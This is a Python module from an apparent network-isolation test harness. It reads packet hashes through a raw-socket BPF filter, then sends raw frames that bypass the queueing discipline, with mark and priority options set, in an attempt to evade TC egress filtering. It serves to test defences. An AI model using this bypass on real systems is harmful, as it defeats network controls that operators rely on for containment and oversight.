"""The token read off the workload's own packets, and what can be done with it.

A packet socket sees packets behind TC egress and can be told their hash. It cannot give one to a
packet: the known token helps nobody. The value is sent past TC egress under the same addresses
and ports whose packets bore the token, with every option that touches marks or hashes.
"""

from __future__ import annotations

import ctypes
import socket
import struct

from attacks.frames import ethernet, udp4
from attacks.target import Impossible, Target, refused

SOL_PACKET, QDISC_BYPASS, VERSION, FANOUT = 263, 20, 10, 18
SO_MARK, SO_PRIORITY, SO_TXREHASH, SO_ATTACH_FILTER = 36, 12, 74, 26
ETH_P_ALL = 0x0003
AD_RXHASH = 0xFFFFF000 + 32
TIMES = 8


def hashes(target: Target) -> set[int]:
    """Hashes of packets that leave, by a filter that keeps those with a given bit only."""
    found = 0
    for bit in range(32):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as tap:
            code = [
                (0x20, 0, 0, AD_RXHASH),  # ld rxhash
                (0x45, 0, 1, 1 << bit),  # jset bit -> take, else leave
                (0x06, 0, 0, 64),
                (0x06, 0, 0, 0),
            ]
            packed = b"".join(struct.pack("=HBBI", *each) for each in code)
            buffer = ctypes.create_string_buffer(packed)
            program = struct.pack("HL", len(code), ctypes.addressof(buffer))
            tap.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, program)
            tap.bind((target.device, ETH_P_ALL))
            tap.settimeout(0.05)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.sendto(b"hello", (target.addresses[4], target.port))
            with refused():
                tap.recv(64)
                found |= 1 << bit
    return {found} if found else set()


def main(target: Target) -> None:
    """Read it, then send."""
    known = hashes(target)
    if not known and target.args.get("must_read"):
        raise Impossible("no packet bore a hash")
    packet = udp4(target.sources[4], target.addresses[4], target.port, target.payload)
    frame = ethernet(target.mac, target.next_hop(), packet)
    token = next(iter(known), 0)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.setsockopt(SOL_PACKET, QDISC_BYPASS, 1)
        for option in (SO_MARK, SO_PRIORITY, SO_TXREHASH):
            for value in (token & 0x7FFFFFFF, 1):
                with refused():
                    out.setsockopt(socket.SOL_SOCKET, option, value)
        out.bind((target.device, 0))
        for _ in range(TIMES):
            with refused():
                out.send(frame)
